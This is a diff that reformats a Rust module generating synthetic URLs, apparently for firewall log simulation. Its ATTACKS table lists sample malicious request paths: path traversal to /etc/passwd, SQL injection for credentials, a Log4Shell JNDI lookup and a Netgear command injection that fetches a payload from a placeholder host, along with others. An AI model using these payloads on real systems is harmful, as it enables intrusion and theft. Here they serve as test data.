@@ -9,9 +9,8 @@ use super::random::Random;
 const URL_BYTES_MAX: usize = 1023;
 
 const SEGMENTS: [&str; 24] = [
-    "news", "articles", "assets", "static", "js", "css", "img", "api", "v2", "products", "search",
-    "docs", "download", "library", "papers", "2026", "items", "user", "session", "track",
-    "collect", "media", "feed", "archive",
+    "news", "articles", "assets", "static", "js", "css", "img", "api", "v2", "products", "search", "docs", "download", "library", "papers", "2026",
+    "items", "user", "session", "track", "collect", "media", "feed", "archive",
 ];
 const FILES: [&str; 16] = [
     "index.html",
@@ -31,22 +30,7 @@ const FILES: [&str; 16] = [
     "manifest.mpd",
     "dataset.zip",
 ];
-const PARAMETERS: [&str; 14] = [
-    "id",
-    "q",
-    "utm_source",
-    "utm_campaign",
-    "session",
-    "page",
-    "lang",
-    "ref",
-    "v",
-    "cb",
-    "uid",
-    "sort",
-    "from",
-    "token",
-];
+const PARAMETERS: [&str; 14] = ["id", "q", "utm_source", "utm_campaign", "session", "page", "lang", "ref", "v", "cb", "uid", "sort", "from", "token"];
 const VALUES: [&str; 12] = [
     "newsletter",
     "ja",
@@ -66,13 +50,7 @@ const VALUES: [&str; 12] = [
 ///
 /// Without a path (undecrypted TLS) only the host is known. One path in a hundred holds quotes, another one commas, and
 /// one in three hundred is as long as the firewall lets it be.
-pub(crate) fn write_url(
-    url: &mut String,
-    site: &Site,
-    port: u16,
-    has_path: bool,
-    random: &mut Random,
-) {
+pub(crate) fn write_url(url: &mut String, site: &Site, port: u16, has_path: bool, random: &mut Random) {
     url.clear();
     url.push_str(&site.domain);
     if !matches!(port, 80 | 443) {
@@ -103,18 +81,11 @@ pub(crate) fn write_url(
         }
         1..=3 => {
             let (id, tag) = (random.below(10_000), random.pick(&SEGMENTS));
-            let _ = write!(
-                url,
-                "?data={{\"profile_id\":{id},\"tags\":[\"{tag}\",\"x\"]}}"
-            );
+            let _ = write!(url, "?data={{\"profile_id\":{id},\"tags\":[\"{tag}\",\"x\"]}}");
         }
         4..=6 => {
             let (east, north) = (random.below(90), random.below(80));
-            let _ = write!(
-                url,
-                "?bbox=139.{east},35.{north},140.{east},36.{north}&zoom={}",
-                random.below(18)
-            );
+            let _ = write!(url, "?bbox=139.{east},35.{north},140.{east},36.{north}&zoom={}", random.below(18));
         }
         7..=120 => {}
         _ => write_query(url, random),
@@ -138,54 +109,29 @@ fn write_query(url: &mut String, random: &mut Random) {
 const ATTACKS: [(u32, &str); 16] = [
     (30844, "/cgi-bin/../../../../../../etc/hosts"),
     (57955, "/"),
-    (
-        30514,
-        "/search?q=1' UNION SELECT username, password FROM users--",
-    ),
+    (30514, "/search?q=1' UNION SELECT username, password FROM users--"),
     (91991, "/?x=${jndi:ldap://198.18.7.7:1389/a}"),
     (31477, "/?a=<script>alert(\"x\")</script>"),
     (30852, "/download?file=../../../../etc/passwd"),
     (36729, "/cgi-bin/status"),
-    (
-        54825,
-        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
-    ),
+    (54825, "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
     (55852, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
-    (
-        37219,
-        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.18.9.9/m",
-    ),
+    (37219, "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.18.9.9/m"),
     (40031, "/login.php"),
     (40006, "/owa/auth.owa"),
     (91752, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
-    (
-        92394,
-        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
-    ),
+    (92394, "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
     (37836, "/xmlrpc.php"),
     (54965, "/wls-wsat/CoordinatorPortType"),
 ];
 
 /// Writes the request that tripped `signature`, with the host it was sent to, in place of what `url` held.
-pub(crate) fn write_attack(
-    url: &mut String,
-    host: std::net::IpAddr,
-    signature: u32,
-    random: &mut Random,
-) {
+pub(crate) fn write_attack(url: &mut String, host: std::net::IpAddr, signature: u32, random: &mut Random) {
     url.clear();
-    let path = ATTACKS
-        .iter()
-        .find(|it| it.0 == signature)
-        .map_or("/index.html", |it| it.1);
+    let path = ATTACKS.iter().find(|it| it.0 == signature).map_or("/index.html", |it| it.1);
     let _ = write!(url, "{host}{path}");
     if random.chance(1, 5) {
-        let _ = write!(
-            url,
-            "{}r={:x}",
-            if path.contains('?') { '&' } else { '?' },
-            random.next_u32()
-        );
+        let _ = write!(url, "{}r={:x}", if path.contains('?') { '&' } else { '?' }, random.next_u32());
     }
 }
 
@@ -240,16 +186,10 @@ mod tests {
         for _ in 0..20_000 {
             let site = internet.site(internet.visit(&mut random));
             write_url(&mut url, site, 80, true, &mut random);
-            assert!(
-                url.len() <= URL_BYTES_MAX && url.starts_with(&site.domain),
-                "{url}"
-            );
+            assert!(url.len() <= URL_BYTES_MAX && url.starts_with(&site.domain), "{url}");
             with_quotes += u32::from(url.contains('"'));
             with_commas += u32::from(url.contains(','));
         }
-        assert!(
-            with_quotes > 100 && with_commas > with_quotes,
-            "{with_quotes} {with_commas}"
-        );
+        assert!(with_quotes > 100 && with_commas > with_quotes, "{with_quotes} {with_commas}");
     }
 }
